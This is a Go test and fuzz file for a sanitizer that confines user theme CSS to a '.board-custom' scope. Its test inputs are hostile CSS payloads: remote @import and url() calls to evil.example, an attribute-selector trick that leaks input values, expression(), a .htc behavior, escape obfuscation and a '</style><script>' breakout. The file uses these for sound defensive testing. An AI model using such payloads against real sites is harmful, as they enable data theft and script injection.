package themes

import (
	"bytes"
	"strings"
	"testing"

	"github.com/tdewolff/parse/v2"
	"github.com/tdewolff/parse/v2/css"
)

func TestConfine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"scopes", "h1, .card > a { color: red }", ".board-custom h1,.board-custom .card>a{color:red;}\n"},
		{"roots", "body { margin: 0 } html body{margin:1px} :root{--x:1px}", ".board-custom{margin:0;}\n.board-custom body{margin:1px;}\n.board-custom{--x:1px;}\n"},
		{"import", `@import url("https://evil.example/x.css"); a { color: red }`, ".board-custom a{color:red;}\n"},
		{"remote url", "a { background: url(https://evil.example/?c); color: red }", ".board-custom a{color:red;}\n"},
		{"data url", `a { background: url("data:image/png;base64,AAAA") }`, ".board-custom a{background:url(\"data:image/png;base64,AAAA\");}\n"},
		{"own url", `a { background: url(/media/hero.jpg) }`, ".board-custom a{background:url(\"/media/hero.jpg\");}\n"},
		{"scheme-relative", `a { background: url(//evil.example/x) } b { background: url(/media//../x) }`, ""},
		{"image-set", `a { background: image-set("https://evil.example/x" 1x) }`, ""},
		{"fixed", "a { position: fixed; top: 0 } b { position: sticky } c { position: relative }", ".board-custom a{top:0;}\n.board-custom c{position:relative;}\n"},
		{"fixed by variable", "a { position: var(--p) }", ""},
		{"expression", "a { width: expression(alert(1)) } b { behavior: url(x.htc) }", ""},
		{"escapes", `a { background: u\72l(https://evil.example) } \62 ody { color: red }`, ""},
		{"media", "@media (max-width: 600px) { a { color: red } }", "@media (max-width:600px){\n.board-custom a{color:red;}\n}\n"},
		{"font-face", "@font-face { font-family: x; src: url(https://evil.example) } a { color: red }", ".board-custom a{color:red;}\n"},
		{"close tag", "a { content: '</style><script>' } b { color: red }", ".board-custom b{color:red;}\n"},
		{"attribute theft", `input[value^="a"] { background: url(https://evil.example/a) }`, ""},
		{"unclosed", "a { color: red", ".board-custom a{color:red;}\n"},
		{"stray brace", "} a { color: red } }", ""},
	} {
		out, _ := Confine(c.in)
		if c.name == "stray brace" {
			if escapes(out) != "" {
				t.Errorf("%s: %s", c.name, out)
			}
			continue
		}
		if string(out) != c.want {
			t.Errorf("%s:\nwant %q\ngot  %q", c.name, c.want, out)
		}
	}
	if _, dropped := Confine("@import 'x'; a{position:fixed}"); len(dropped) != 2 {
		t.Errorf("want two lines about what was left out, got %q", dropped)
	}
}

// escapes reads confined CSS with the parser and says what is wrong with it.
func escapes(out []byte) string {
	p := css.NewParser(parse.NewInputBytes(bytes.Clone(out)), false)
	depth := 0
	for {
		kind, _, data := p.Next()
		switch kind {
		case css.ErrorGrammar:
			if depth != 0 {
				return "unbalanced"
			}
			return ""
		case css.AtRuleGrammar:
			return "at-rule " + string(data)
		case css.BeginAtRuleGrammar:
			if string(data) != "@media" {
				return "at-rule " + string(data)
			}
			depth++
		case css.QualifiedRuleGrammar, css.BeginRulesetGrammar:
			tokens, ok := lex(join(p.Values()))
			if !ok {
				return "selector " + join(p.Values())
			}
			for _, one := range commas(tokens) {
				if sel := join(one); !strings.HasPrefix(sel, scope) {
					return "selector " + sel
				}
			}
			if kind == css.BeginRulesetGrammar {
				depth++
			}
		case css.EndRulesetGrammar, css.EndAtRuleGrammar:
			depth--
		case css.DeclarationGrammar, css.CustomPropertyGrammar:
			v := strings.ToLower(join(p.Values()))
			if strings.Contains(v, "http") && strings.Contains(v, "url(") || strings.Contains(v, "expression(") || strings.Contains(v, "fixed") && string(data) == "position" {
				return "declaration " + v
			}
		}
	}
}

func FuzzConfine(f *testing.F) {
	for _, s := range []string{
		"a{color:red}", "@media print{a{b:c}}", "a{b{c:d}}", "a{background:url(https://x)}", ":root{--a:url(x)}", "a,b>c:not(.d){x:y!important}",
		"}{", "a{color:re\\64}", "/*", "a{content:\"}\"}", "@media{", "@supports (a:b){c{d:e}}", "a{--x:{b:c}}", "<!-- a{b:c} -->", "body,html .x{margin:0}", ".board-custom+a{b:c}",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out, _ := Confine(s)
		if why := escapes(out); why != "" {
			t.Fatalf("%q got out: %s\n%s", s, why, out)
		}
		if bytes.ContainsAny(out, "<\\") || bytes.Contains(bytes.ToLower(out), []byte("@import")) {
			t.Fatalf("%q left %q", s, out)
		}
		if again, _ := Confine(string(out)); len(out) < maxCustomCSS && !bytes.Equal(again, out) {
			t.Fatalf("confining twice differs:\n%q\n%q\n%q", s, out, again)
		}
	})
}
